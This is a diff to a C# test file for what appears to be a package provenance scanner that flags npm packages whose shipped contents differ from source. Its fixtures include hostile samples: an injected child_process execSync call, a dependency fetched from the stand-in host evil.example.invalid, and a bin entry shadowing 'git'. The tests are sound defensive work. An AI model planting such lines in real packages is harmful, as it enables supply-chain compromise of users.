@@ -62,6 +62,7 @@ public sealed class FileOriginTests
     [Theory]
     [InlineData("exports.version = '1.2.3'; require('child_process').execSync('id');\n")]
     [InlineData("exports.loadSomething = 'elsewhere';\n")]
+    [InlineData("exports.version = true || '1.2.3';\n")]
     public void A_line_that_does_more_than_name_the_version_is_a_change(string line)
     {
         var report = Npm([("index.js", Code(1) + "exports.version = '0.0.0';\n")], ("index.js", Code(1) + line));
@@ -86,6 +87,7 @@ public sealed class FileOriginTests
     [Theory]
     [InlineData(",\"scripts\":{\"postinstall\":\"node setup.js\"}", "the script 'postinstall'")]
     [InlineData(",\"dependencies\":{\"plain-fake-js\":\"^4.2.1\"}", "the dependency 'plain-fake-js'")]
+    [InlineData(",\"bin\":{\"git\":\"index.js\"}", "the command 'git'")]
     [InlineData(",\"optionalDependencies\":{\"fetch-later\":\"https://evil.example.invalid/x.tgz\"}", "the dependency 'fetch-later'")]
     public void What_only_the_shipped_manifest_asks_for_is_named(string more, string expected)
     {
@@ -246,6 +248,23 @@ public sealed class FileOriginTests
 
         Assert.Equal(["source-mismatch High"], SourceFolder.Provenance(report));
         Assert.Equal(11, report.Findings.First(finding => finding.Finding.Rule.Family == "provenance").Finding.Line);
+    }
+
+    [Fact]
+    public void Entry_points_that_a_build_writes_inform()
+    {
+        var report = NpmManifest("""{"name":"add","version":"1.2.3","license":"MIT","main":"./index.js","module":"index.mjs"}""");
+
+        Assert.Equal(["source-mismatch Info"], SourceFolder.Provenance(report));
+    }
+
+    [Fact]
+    public void A_script_in_wide_characters_is_compared_too()
+    {
+        using var tree = SourceFolder.Of("v1.2.3", [("package.json", Encoding.UTF8.GetBytes(Manifest)), ("install.ps1", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("Write-Host 'installing'\n")).ToArray())]);
+        var report = tree.Hold("add-1.2.3.tgz", TestArchive.Tgz(("package/package.json", Encoding.UTF8.GetBytes(Manifest)), ("package/install.ps1", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("Invoke-Something 'else'\n")).ToArray())));
+
+        Assert.Contains("source-mismatch High", SourceFolder.Provenance(report));
     }
 
     [Fact]
